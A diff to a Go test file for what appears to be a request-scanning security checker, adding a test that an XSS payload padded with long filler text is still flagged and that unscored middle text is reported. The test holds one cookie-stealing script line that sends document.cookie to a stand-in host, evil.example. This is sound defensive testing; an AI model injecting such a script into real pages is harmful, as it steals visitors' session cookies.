@@ -5,6 +5,7 @@ import (
 	"fmt"
 	"mime"
 	"net/url"
+	"slices"
 	"strings"
 	"testing"
 
@@ -123,6 +124,23 @@ func TestAPasswordMayBeAnyText(t *testing.T) {
 		r.Body.Bytes = []byte(`{"user":{"name":"anna","newPassword":` + string(quoted) + `}}`)
 		if got := worst(c, r); got >= 80 != denied {
 			t.Errorf("%q as a password scores %.1f; denied wanted: %v", password, got, denied)
+		}
+	}
+}
+
+func TestPaddingHidesNoAttackAndALongValueIsNamed(t *testing.T) {
+	c := testCheck(t)
+	pad := strings.Repeat("lorem ipsum dolor sit amet, ", 20_000)
+	attack := "<script>fetch('//evil.example/?'+document.cookie)</script>"
+	for name, text := range map[string]string{"before": pad + attack, "behind": attack + pad} {
+		v := judged(c, "/", "", "text/plain", text)
+		if !slices.ContainsFunc(v.Findings, func(f check.Finding) bool { return f.ID == "xss" && f.Score >= 80 }) {
+			t.Errorf("padding %s an attack hides it: %+v", name, v.Findings)
+		}
+		if !slices.ContainsFunc(v.Findings, func(f check.Finding) bool {
+			return f.ID == "partial" && f.Severity == check.Info && f.Where != ""
+		}) {
+			t.Errorf("padding %s: no finding says that the middle was not scored: %+v", name, v.Findings)
 		}
 	}
 }
